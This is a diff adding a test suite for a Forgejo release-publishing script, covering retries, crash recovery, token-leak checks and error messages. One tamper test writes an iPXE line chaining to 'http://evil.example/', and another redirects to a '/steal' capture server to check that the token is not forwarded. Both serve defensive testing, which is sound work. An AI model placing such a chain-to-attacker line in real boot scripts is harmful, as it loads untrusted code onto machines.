@@ -1,0 +1,595 @@
+/**
+ * publish-release.ts against the Forgejo-compatible test server: the happy path, re-runs after a
+ * crash at every step, concurrent runs, every injected fault and every error mapping. Every run
+ * asserts that the token never appears in what the script printed.
+ */
+import { afterAll, afterEach, describe, expect, test } from "bun:test";
+import { $ } from "zx/core";
+import { rm, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import type { Manifest } from "../scripts/lib/manifest.ts";
+import { releaseNames } from "../scripts/lib/targets.ts";
+import { makeDist } from "./support/dist.ts";
+import {
+  MAIN_SHA, startCaptureServer, startForgejo, type ForgejoOptions, type ForgejoServer, type ReleaseView,
+} from "./support/forgejo-server.ts";
+import { cleanEnv, runScript, type RunResult } from "./support/run.ts";
+
+const WRITE = "fjt_write_5e1f0a9b7c3d2e4f6a8b";
+const READ = "fjt_read_77aa01bc23de45f6";
+const NONE = "fjt_none_99cc00dd11ee22ff";
+const ACTIONS = "fjt_actions_4b5c6d7e8f9a0b1c";
+const TOKENS: ForgejoOptions["tokens"] = {
+  [WRITE]: { user: "publisher", access: "write" },
+  [READ]: { user: "reader", access: "read" },
+  [NONE]: { user: "stranger", access: "none" },
+  [ACTIONS]: { user: "forgejo-actions", access: "write", actions: true },
+};
+const OTHER_SHA = "fedcba9876543210fedcba9876543210fedcba98";
+const ALL_FILES = [...releaseNames(), "SHA256SUMS", "manifest.json"];
+
+const servers: ForgejoServer[] = [];
+const dirs: string[] = [];
+afterEach(async () => {
+  while (servers.length) await servers.pop()!.stop();
+});
+afterAll(async () => {
+  for (const d of dirs) await rm(d, { recursive: true, force: true });
+});
+
+async function server(options: ForgejoOptions = {}): Promise<ForgejoServer> {
+  const s = await startForgejo({ tokens: TOKENS, commits: [OTHER_SHA], ...options });
+  servers.push(s);
+  return s;
+}
+
+async function dist(options: Partial<Parameters<typeof makeDist>[0]> = {}): Promise<{ dir: string; manifest: Manifest }> {
+  const d = await makeDist({ commit: MAIN_SHA, ...options });
+  dirs.push(d.dir);
+  return d;
+}
+
+/** Fast network tuning: tests inject faults, they should not wait for real backoffs. */
+const FAST = { RUNNER_IMAGES_RETRY_DELAY_MS: "5", RUNNER_IMAGES_RETRIES: "3", RUNNER_IMAGES_STALL_TIMEOUT: "1" };
+
+async function publish(s: ForgejoServer | string, distDir: string, args: string[], env: Record<string, string | undefined> = {}): Promise<RunResult> {
+  const url = typeof s === "string" ? s : s.url;
+  const r = await runScript(
+    "publish-release.ts",
+    ["--dist", distDir, "--server", url, "--repo", "ops/runner-images", ...args],
+    { env: cleanEnv({ FORGEJO_TOKEN: WRITE, ...FAST, ...env }) },
+  );
+  for (const token of [WRITE, READ, NONE, ACTIONS]) {
+    expect(r.stdout).not.toContain(token);
+    expect(r.stderr).not.toContain(token);
+  }
+  return r;
+}
+
+const sha256 = (bytes: Uint8Array) => new Bun.CryptoHasher("sha256").update(bytes).digest("hex");
+
+/** The release for `tag` holds exactly the dist, once each, with the dist's bytes. */
+async function expectComplete(s: ForgejoServer, tag: string, distDir: string, draft = false): Promise<ReleaseView> {
+  const releases = s.state().releases.filter((r) => r.tagName === tag && !r.isTag);
+  expect(releases).toHaveLength(1);
+  const release = releases[0]!;
+  expect(release.draft).toBe(draft);
+  expect(release.assets.map((a) => a.name).sort()).toEqual([...ALL_FILES].sort());
+  for (const asset of release.assets) {
+    expect(asset.sha256).toBe(sha256(await Bun.file(join(distDir, asset.name)).bytes()));
+  }
+  return release;
+}
+
+const uploadedBytes = (s: ForgejoServer, from = 0) =>
+  s.requests.slice(from).filter((r) => r.method === "POST" && r.path.endsWith("/assets")).reduce((n, r) => n + r.bytesIn, 0);
+
+/** The API as the test's own hands, to set up crashed states. */
+async function api(s: ForgejoServer, method: string, path: string, body?: unknown, raw?: Uint8Array): Promise<Response> {
+  return fetch(`${s.apiUrl}/repos/ops/runner-images${path}`, {
+    method,
+    headers: { authorization: `token ${WRITE}`, "content-type": raw ? "application/octet-stream" : "application/json" },
+    body: raw ?? (body === undefined ? undefined : JSON.stringify(body)),
+  });
+}
+async function createDraft(s: ForgejoServer, tag: string): Promise<number> {
+  const r = await api(s, "POST", "/releases", { tag_name: tag, target_commitish: MAIN_SHA, name: tag, draft: true });
+  expect(r.status).toBe(201);
+  return ((await r.json()) as { id: number }).id;
+}
+async function uploadRaw(s: ForgejoServer, id: number, name: string, bytes: Uint8Array): Promise<void> {
+  const r = await api(s, "POST", `/releases/${id}/assets?name=${encodeURIComponent(name)}`, undefined, bytes);
+  expect(r.status).toBe(201);
+}
+
+describe("the happy path", () => {
+  test("publishes every file once, at the dist's commit, and prints the release URL", async () => {
+    const s = await server();
+    const d = await dist();
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--json"]);
+    expect(r.stderr).not.toContain("error:");
+    expect(r.code).toBe(0);
+    const release = await expectComplete(s, "boot-v1.0.0", d.dir);
+    expect(release.prerelease).toBe(false);
+    expect(release.target).toBe(MAIN_SHA);
+    expect(s.state().tags["boot-v1.0.0"]).toBe(MAIN_SHA);
+    const result = JSON.parse(r.stdout);
+    expect(result).toMatchObject({ state: "published", tag: "boot-v1.0.0", uploaded: ALL_FILES });
+    expect(result.url).toBe(`${s.url}/ops/runner-images/releases/tag/boot-v1.0.0`);
+    expect(r.stderr).toContain(`published: ${result.url}`);
+    // manifest.json and SHA256SUMS are uploaded after every image.
+    const uploads = s.requests.filter((q) => q.method === "POST" && q.path.endsWith("/assets")).map((q) => decodeURIComponent(q.query).replace(/^\?name=|\.partial-.*$/g, ""));
+    expect(uploads.slice(-2)).toEqual(["SHA256SUMS", "manifest.json"]);
+    // --verify full (the default) downloaded every asset back before publishing.
+    expect(s.requests.filter((q) => q.method === "GET" && q.path.startsWith("/attachments/")).length).toBeGreaterThanOrEqual(ALL_FILES.length);
+  });
+
+  test("a re-run after success sends zero bytes and says it is already published", async () => {
+    const s = await server();
+    const d = await dist();
+    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
+    const from = s.requests.length;
+    const again = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--json"]);
+    expect(again.code).toBe(0);
+    expect(again.stderr).toContain("already published with exactly these files");
+    expect(uploadedBytes(s, from)).toBe(0);
+    expect(s.requests.slice(from).every((q) => q.method === "GET")).toBe(true);
+    expect(JSON.parse(again.stdout).calls).toBeLessThanOrEqual(6);
+  });
+
+  test("a rebuild of the same commit with identical images is still 'identical' (build time differs)", async () => {
+    const s = await server();
+    const first = await dist();
+    expect((await publish(s, first.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
+    const rebuilt = await dist(); // same contents, new builtAt
+    const again = await publish(s, rebuilt.dir, ["--tag", "boot-v1.0.0"]);
+    expect(again.code).toBe(0);
+    expect(again.stderr).toContain("already published");
+  });
+
+  test("dev and -suffix tags are prereleases; boot-dev tags are the default in a dispatched CI run", async () => {
+    const s = await server();
+    const d = await dist();
+    const ci = { FORGEJO_RUN_ID: "77", FORGEJO_RUN_NUMBER: "12", FORGEJO_REF_TYPE: "branch", FORGEJO_REF_NAME: "main", FORGEJO_EVENT_NAME: "workflow_dispatch" };
+    const r = await runScript("publish-release.ts", ["--dist", d.dir], {
+      env: cleanEnv({ ...FAST, ...ci, FORGEJO_TOKEN: WRITE, FORGEJO_SERVER_URL: `${s.url}/`, FORGEJO_REPOSITORY: "ops/runner-images" }),
+    });
+    expect(r.code).toBe(0);
+    const tag = `boot-dev-12-${MAIN_SHA.slice(0, 7)}`;
+    expect((await expectComplete(s, tag, d.dir)).prerelease).toBe(true);
+    expect((await publish(s, d.dir, ["--tag", "boot-v2.0.0-rc.1"])).code).toBe(0);
+    expect(s.state().releases.find((x) => x.tagName === "boot-v2.0.0-rc.1")!.prerelease).toBe(true);
+  });
+});
+
+describe("re-running after a crash ends complete and clean", () => {
+  test("a draft without assets", async () => {
+    const s = await server();
+    const d = await dist();
+    await createDraft(s, "boot-v1.1.0");
+    expect((await publish(s, d.dir, ["--tag", "boot-v1.1.0"])).code).toBe(0);
+    await expectComplete(s, "boot-v1.1.0", d.dir);
+  });
+
+  test("half an upload: the connection dies mid-ISO every time, then a re-run completes", async () => {
+    const s = await server();
+    const d = await dist();
+    s.addFault({ kind: "reset", method: "POST", path: /\/assets$/, afterBytes: 1024 * 1024, times: 4 });
+    const failed = await publish(s, d.dir, ["--tag", "boot-v1.2.0"]);
+    expect(failed.code).toBe(1);
+    expect(failed.stderr).toMatch(/error: uploading \S+ \(after \d+ of \d+ bytes\)/);
+    // Nothing half-published: still a draft, and no final name holds wrong bytes.
+    const draft = s.state().releases.find((r) => r.tagName === "boot-v1.2.0")!;
+    expect(draft.draft).toBe(true);
+    expect(s.state().tags["boot-v1.2.0"]).toBeUndefined();
+    s.clearFaults();
+    expect((await publish(s, d.dir, ["--tag", "boot-v1.2.0"])).code).toBe(0);
+    await expectComplete(s, "boot-v1.2.0", d.dir);
+  });
+
+  test("a temporary name left behind, duplicates of one name and a wrong file under a final name", async () => {
+    const s = await server();
+    const d = await dist();
+    const id = await createDraft(s, "boot-v1.3.0");
+    const good = await Bun.file(join(d.dir, "initrd-x86_64")).bytes();
+    const wrong = good.slice();
+    wrong[0] = wrong[0]! ^ 0xff; // same size, other bytes
+    await uploadRaw(s, id, "runner-x86_64.iso.partial-deadbeef", new Uint8Array(1000));
+    await uploadRaw(s, id, "initrd-x86_64", wrong);
+    await uploadRaw(s, id, "bzImage-x86_64", await Bun.file(join(d.dir, "bzImage-x86_64")).bytes());
+    await uploadRaw(s, id, "bzImage-x86_64", await Bun.file(join(d.dir, "bzImage-x86_64")).bytes());
+    await uploadRaw(s, id, "notes.txt", new Uint8Array(10));
+    const from = s.requests.length;
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.3.0"]);
+    expect(r.code).toBe(0);
+    expect(r.stderr).toContain("deleting runner-x86_64.iso.partial-deadbeef (left by an interrupted run)");
+    expect(r.stderr).toContain("deleting bzImage-x86_64 (duplicate name)");
+    expect(r.stderr).toContain("replacing initrd-x86_64");
+    expect(r.stderr).toContain("skipping bzImage-x86_64: already there, identical");
+    await expectComplete(s, "boot-v1.3.0", d.dir);
+    // The identical bzImage was not sent again.
+    const sent = s.requests.slice(from).filter((q) => q.method === "POST" && q.query.includes("bzImage"));
+    expect(sent).toHaveLength(0);
+  });
+
+  test("a release whose drafts the tag lookup hides is found through the list, not created twice", async () => {
+    const s = await server({ draftTagLookup: "none" });
+    const d = await dist();
+    await createDraft(s, "boot-v1.4.0");
+    expect((await publish(s, d.dir, ["--tag", "boot-v1.4.0"])).code).toBe(0);
+    await expectComplete(s, "boot-v1.4.0", d.dir);
+  });
+
+  test("a pushed tag (a bare tag, no release) is converted and published without moving it", async () => {
+    const s = await server();
+    const d = await dist();
+    s.pushTag("boot-v1.5.0", MAIN_SHA);
+    expect((await publish(s, d.dir, ["--tag", "boot-v1.5.0"])).code).toBe(0);
+    await expectComplete(s, "boot-v1.5.0", d.dir);
+    expect(s.state().tags["boot-v1.5.0"]).toBe(MAIN_SHA);
+  });
+});
+
+describe("concurrency", () => {
+  test("two runs for one tag at once end with one complete release", async () => {
+    const s = await server();
+    const d = await dist({ isoBytes: 8 * 1024 * 1024 });
+    const [a, b] = await Promise.all([publish(s, d.dir, ["--tag", "boot-v3.0.0"]), publish(s, d.dir, ["--tag", "boot-v3.0.0"])]);
+    expect([a.code, b.code]).toContain(0);
+    for (const r of [a, b]) expect([0, 1]).toContain(r.code);
+    // Whatever the interleaving, a re-run confirms one complete, published release.
+    const confirm = await publish(s, d.dir, ["--tag", "boot-v3.0.0"]);
+    expect(confirm.code).toBe(0);
+    await expectComplete(s, "boot-v3.0.0", d.dir);
+  }, 60_000);
+});
+
+describe("published releases are immutable", () => {
+  test("a published release that differs is refused, exit 1, and left alone", async () => {
+    const s = await server();
+    const first = await dist();
+    expect((await publish(s, first.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
+    const other = await dist({ flavour: "b" });
+    const r = await publish(s, other.dir, ["--tag", "boot-v1.0.0"]);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("is already published and differs from the dist");
+    expect(r.stderr).toContain("runner-x86_64.iso has another SHA-256 there");
+    await expectComplete(s, "boot-v1.0.0", first.dir);
+  });
+
+  test("--replace-published replaces it, verified, and publishes again", async () => {
+    const s = await server();
+    const first = await dist();
+    expect((await publish(s, first.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
+    const other = await dist({ flavour: "b" });
+    const r = await publish(s, other.dir, ["--tag", "boot-v1.0.0", "--replace-published"]);
+    expect(r.code).toBe(0);
+    await expectComplete(s, "boot-v1.0.0", other.dir);
+  });
+
+  test("a tag that exists at another commit stops the run before anything is created", async () => {
+    const s = await server();
+    const d = await dist();
+    s.pushTag("boot-v1.6.0", OTHER_SHA);
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.6.0"]);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain(`tag boot-v1.6.0 already exists at ${OTHER_SHA}, but the dist was built from ${MAIN_SHA}`);
+    expect(s.state().releases.filter((x) => !x.isTag)).toHaveLength(0);
+  });
+});
+
+describe("faults are retried where a retry can help", () => {
+  test("a burst of 503s and a 429 with Retry-After are retried; the release completes", async () => {
+    const s = await server();
+    const d = await dist();
+    s.addFault({ kind: "status", status: 503, method: "GET", path: /\/releases\/tags\//, times: 2 });
+    s.addFault({ kind: "status", status: 429, retryAfter: 1, method: "POST", path: /\/releases$/, times: 1 });
+    const started = Date.now();
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
+    expect(r.code).toBe(0);
+    expect(r.stderr).toContain("retrying in 1.0 s");
+    expect(Date.now() - started).toBeGreaterThanOrEqual(1000);
+    await expectComplete(s, "boot-v1.0.0", d.dir);
+  });
+
+  test("a 500 on an idempotent call is retried, a 500 on creating the release is not", async () => {
+    const s = await server();
+    const d = await dist();
+    s.addFault({ kind: "status", status: 500, method: "PATCH", path: /\/releases\/\d+$/, times: 1 });
+    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
+    const t = await server();
+    t.addFault({ kind: "status", status: 500, method: "POST", path: /\/releases$/, times: 1 });
+    const r = await publish(t, d.dir, ["--tag", "boot-v1.0.0"]);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("creating release boot-v1.0.0: 500");
+    expect(t.requests.filter((q) => q.method === "POST" && q.path.endsWith("/releases"))).toHaveLength(1);
+  });
+
+  test("a 4xx other than 429 is never retried", async () => {
+    const s = await server();
+    const d = await dist();
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: "fjt_unknown_0000000000" });
+    expect(r.code).toBe(1);
+    expect(s.requests.filter((q) => q.status === 401)).toHaveLength(1);
+  });
+
+  test("a connection reset mid-upload is retried under a fresh name, leaving no debris", async () => {
+    const s = await server();
+    const d = await dist();
+    s.addFault({ kind: "reset", method: "POST", path: /\/assets$/, afterBytes: 512 * 1024, times: 1 });
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
+    expect(r.code).toBe(0);
+    expect(r.stderr).toContain("retrying in");
+    await expectComplete(s, "boot-v1.0.0", d.dir);
+  });
+
+  test("a stalled upload times out on lack of progress and is retried", async () => {
+    const s = await server();
+    const d = await dist();
+    s.addFault({ kind: "stall", method: "POST", path: /\/assets$/, afterBytes: 256 * 1024, ms: 4000, times: 1 });
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
+    expect(r.code).toBe(0);
+    expect(r.stderr).toContain("no progress for 1 s");
+    await expectComplete(s, "boot-v1.0.0", d.dir);
+  }, 30_000);
+
+  test("an upload the proxy reports as 502 although it was stored is cleaned up, not duplicated", async () => {
+    const s = await server();
+    const d = await dist();
+    s.addFault({ kind: "status-after-work", status: 502, method: "POST", path: /\/assets$/, times: 1 });
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
+    expect(r.code).toBe(0);
+    await expectComplete(s, "boot-v1.0.0", d.dir);
+  });
+
+  test("a dropped connection on a read is retried", async () => {
+    const s = await server();
+    const d = await dist();
+    s.addFault({ kind: "close", method: "GET", path: /\/tags\//, times: 2 });
+    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
+  });
+});
+
+describe("errors name the fix", () => {
+  test("401: the token is missing, expired or revoked", async () => {
+    const s = await server();
+    const d = await dist();
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: "fjt_expired_1234567890" });
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("401");
+    expect(r.stderr).toContain("the token is missing, expired or revoked");
+    expect(r.stderr).not.toContain("fjt_expired_1234567890");
+  });
+
+  test("a read-only token: it cannot write the repository", async () => {
+    const s = await server();
+    const d = await dist();
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: READ });
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("the token can read ops/runner-images but not write it");
+  });
+
+  test("404: wrong repository, or one the token cannot see", async () => {
+    const s = await server({ private: true });
+    const d = await dist();
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: NONE });
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("404");
+    expect(r.stderr).toContain("check --repo ops/runner-images");
+  });
+
+  test("413 with an HTML body: a reverse proxy's size limit; nothing is published", async () => {
+    const s = await server();
+    const d = await dist();
+    s.addFault({ kind: "proxy413", maxBody: 1024 * 1024, method: "POST", path: /\/assets$/, times: 10 });
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("a reverse proxy in front of Forgejo refused the body size");
+    expect(r.stderr).toContain("client_max_body_size");
+    expect(s.state().releases.find((x) => x.tagName === "boot-v1.0.0")!.draft).toBe(true);
+  });
+
+  test("413 with a JSON body: the quota", async () => {
+    const s = await server();
+    const d = await dist();
+    s.addFault({ kind: "quota", method: "POST", path: /\/assets$/, times: 10 });
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("quota");
+    expect(r.stderr).not.toContain("reverse proxy");
+  });
+
+  test("422 on a protected tag with the Actions token: push the tag first", async () => {
+    const s = await server({ protectedTags: ["boot-v*"] });
+    const d = await dist();
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: ACTIONS });
+    // A draft creates no tag, so creating succeeds; publishing would create the protected tag.
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("push the tag first (git push origin boot-v1.0.0)");
+    expect(s.state().tags["boot-v1.0.0"]).toBeUndefined();
+    // The maintainer pushes the tag; the same command now finishes the release.
+    s.pushTag("boot-v1.0.0", MAIN_SHA);
+    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: ACTIONS })).code).toBe(0);
+    await expectComplete(s, "boot-v1.0.0", d.dir);
+  });
+
+  test("a redirect to another origin is refused and the token never goes there", async () => {
+    const s = await server();
+    const capture = await startCaptureServer();
+    const d = await dist();
+    s.addFault({ kind: "redirect", location: `${capture.url}/steal`, status: 307, times: 20 });
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
+    await capture.stop();
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("redirected to");
+    for (const seen of capture.seen) expect(seen.headers.authorization).toBeUndefined();
+  });
+
+  test("connection refused", async () => {
+    const d = await dist();
+    const r = await publish("http://127.0.0.1:1", d.dir, ["--tag", "boot-v1.0.0"], { RUNNER_IMAGES_RETRIES: "0" });
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("connection to http://127.0.0.1:1 refused; is --server right and the server up?");
+  });
+
+  test("a TLS failure says how to trust a private CA", async () => {
+    const d = await dist();
+    // A self-signed certificate: what a private CA looks like to a client that does not trust it.
+    await $({ cwd: d.dir, quiet: true })`openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -subj /CN=localhost -days 1`;
+    const tls = Bun.serve({
+      port: 0,
+      hostname: "127.0.0.1",
+      tls: { key: Bun.file(join(d.dir, "key.pem")), cert: Bun.file(join(d.dir, "cert.pem")) },
+      fetch: () => new Response("{}"),
+    });
+    try {
+      const r = await publish(`https://127.0.0.1:${tls.port}`, d.dir, ["--tag", "boot-v1.0.0"], { RUNNER_IMAGES_RETRIES: "0" });
+      expect(r.code).toBe(1);
+      expect(r.stderr).toContain("TLS with");
+      expect(r.stderr).toContain("NODE_EXTRA_CA_CERTS");
+    } finally {
+      tls.stop(true);
+    }
+  });
+});
+
+describe("bad input is refused before anything is sent (exit 2)", () => {
+  test("no token", async () => {
+    const d = await dist();
+    const r = await publish("http://127.0.0.1:1", d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: undefined });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain("no token: set FORGEJO_TOKEN");
+  });
+
+  test("--token-file is read and trimmed, and its value never printed", async () => {
+    const s = await server();
+    const d = await dist();
+    const file = join(d.dir, "..", `token-${Date.now()}`);
+    await writeFile(file, `  ${WRITE}\n`);
+    dirs.push(file);
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--token-file", file], { FORGEJO_TOKEN: undefined });
+    expect(r.code).toBe(0);
+  });
+
+  test("plain http off loopback", async () => {
+    const d = await dist();
+    const r = await publish("http://forge.example", d.dir, ["--tag", "boot-v1.0.0"]);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain("is plain http");
+  });
+
+  test("publishing to the Codeberg mirror from CI", async () => {
+    const d = await dist();
+    const r = await publish("https://codeberg.org", d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_RUN_ID: "1" });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain("the Codeberg mirror only distributes");
+  });
+
+  test("a dirty build under a boot-v tag, unless --allow-dirty; a dev tag is fine", async () => {
+    const s = await server();
+    const d = await dist({ dirty: true });
+    const refused = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
+    expect(refused.code).toBe(2);
+    expect(refused.stderr).toContain("uncommitted changes");
+    expect(s.requests).toHaveLength(0);
+    expect((await publish(s, d.dir, ["--tag", "boot-dev-local-1"])).code).toBe(0);
+    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--allow-dirty"])).code).toBe(0);
+  });
+
+  test("a dist whose file no longer matches its manifest", async () => {
+    const s = await server();
+    const d = await dist();
+    await writeFile(join(d.dir, "netboot-x86_64.ipxe"), "#!ipxe\nchain http://evil.example/\n");
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain("netboot-x86_64.ipxe is");
+    expect(s.requests).toHaveLength(0);
+  });
+
+  test("a tag of another shape, and a missing tag by hand", async () => {
+    const d = await dist();
+    expect((await publish("http://127.0.0.1:1", d.dir, ["--tag", "v1.0"])).stderr).toContain("neither boot-vX.Y.Z");
+    const r = await publish("http://127.0.0.1:1", d.dir, []);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain("no tag");
+  });
+
+  test("--token is not a flag: tokens never go on the command line", async () => {
+    const d = await dist();
+    const r = await publish("http://127.0.0.1:1", d.dir, ["--tag", "boot-v1.0.0", "--token", WRITE]);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain("unknown option --token");
+  });
+});
+
+describe("--dry-run", () => {
+  test("prints the plan with bytes and changes nothing", async () => {
+    const s = await server();
+    const d = await dist();
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--dry-run", "--json"]);
+    expect(r.code).toBe(0);
+    expect(r.stderr).toContain("plan: would create draft release boot-v1.0.0");
+    expect(r.stderr).toContain("plan: would upload runner-x86_64.iso (3.0 MiB)");
+    expect(r.stderr).toContain("nothing was changed");
+    expect(JSON.parse(r.stdout).plannedUploadBytes).toBeGreaterThan(3 * 1024 * 1024);
+    expect(s.requests.every((q) => q.method === "GET")).toBe(true);
+    expect(s.state().releases).toHaveLength(0);
+  });
+
+  test("on a half-synced draft, plans exactly the remaining work", async () => {
+    const s = await server();
+    const d = await dist();
+    const id = await createDraft(s, "boot-v1.0.0");
+    await uploadRaw(s, id, "bzImage-x86_64", await Bun.file(join(d.dir, "bzImage-x86_64")).bytes());
+    await uploadRaw(s, id, "stale.partial-1", new Uint8Array(5));
+    const before = JSON.stringify(s.state());
+    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--dry-run"]);
+    expect(r.code).toBe(0);
+    expect(r.stderr).toContain("plan: would skip bzImage-x86_64");
+    expect(r.stderr).toContain("plan: would delete stale.partial-1");
+    expect(r.stderr).toContain("plan: would be uploading runner-x86_64.iso");
+    expect(JSON.stringify(s.state())).toBe(before);
+  });
+});
+
+describe("pruning dev releases", () => {
+  test("keeps the newest --keep-dev dev releases, deletes the rest with their tags, never boot-v ones", async () => {
+    const s = await server();
+    const d = await dist();
+    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
+    for (let i = 1; i <= 5; i++) {
+      expect((await publish(s, d.dir, ["--tag", `boot-dev-${i}`, "--verify", "sizes"])).code).toBe(0);
+      await Bun.sleep(1100); // distinct created_at seconds, as on a real server
+    }
+    const tags = s.state().releases.filter((r) => !r.isTag).map((r) => r.tagName).sort();
+    expect(tags).toEqual(["boot-dev-3", "boot-dev-4", "boot-dev-5", "boot-v1.0.0"]);
+    expect(Object.keys(s.state().tags).sort()).toEqual(["boot-dev-3", "boot-dev-4", "boot-dev-5", "boot-v1.0.0"]);
+  }, 60_000);
+
+  test("pages through more releases than one page holds", async () => {
+    const s = await server({ maxResponseItems: 5, defaultPagingNum: 5 });
+    const d = await dist();
+    for (let i = 0; i < 12; i++) {
+      const id = await createDraft(s, `boot-dev-old-${i}`);
+      expect((await api(s, "PATCH", `/releases/${id}`, { draft: false })).status).toBe(200);
+    }
+    const r = await publish(s, d.dir, ["--tag", "boot-dev-new", "--keep-dev", "2", "--verify", "sizes"]);
+    expect(r.stderr).not.toContain("error:");
+    expect(r.code).toBe(0);
+    const left = s.state().releases.filter((x) => !x.isTag && x.tagName.startsWith("boot-dev-"));
+    expect(left).toHaveLength(2);
+    expect(left.map((x) => x.tagName)).toContain("boot-dev-new");
+  }, 30_000);
+});
+
+describe("the command line", () => {
+  test("--help names every flag, the environment and the exit codes", async () => {
+    const r = await runScript("publish-release.ts", ["--help"]);
+    expect(r.code).toBe(0);
+    for (const f of ["--dist", "--server", "--repo", "--tag", "--title", "--notes-file", "--prerelease", "--keep-dev", "--verify", "--dry-run", "--json", "--debug", "--token-file"]) {
+      expect(r.stdout).toContain(f);
+    }
+    expect(r.stdout).toContain("FORGEJO_TOKEN");
+    expect(r.stdout).toContain("Exit codes");
+  });
+});
